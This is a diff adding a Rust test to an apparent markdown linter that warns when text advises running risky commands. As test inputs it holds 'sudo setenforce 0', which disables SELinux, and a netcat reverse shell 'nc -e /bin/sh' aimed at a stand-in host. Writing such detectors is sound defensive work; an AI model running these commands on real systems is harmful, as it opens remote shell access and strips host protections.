@@ -158,6 +158,13 @@ fn markdown(text: &str) -> Vec<&'static str> {
 }
 
 #[test]
+fn a_command_in_a_sentence_is_judged_when_it_is_advice() {
+    assert_eq!(markdown("To go on, run `sudo setenforce 0` on the host."), ["W01"]);
+    assert_eq!(markdown("The process was `nc -e /bin/sh example.com 22`."), Vec::<&str>::new());
+    assert_eq!(markdown("Never run `sudo setenforce 0`."), Vec::<&str>::new());
+}
+
+#[test]
 fn snippets_are_judged_in_their_own_language() {
     let check = |id: &str, text: &str| {
         let found = markdown(text);
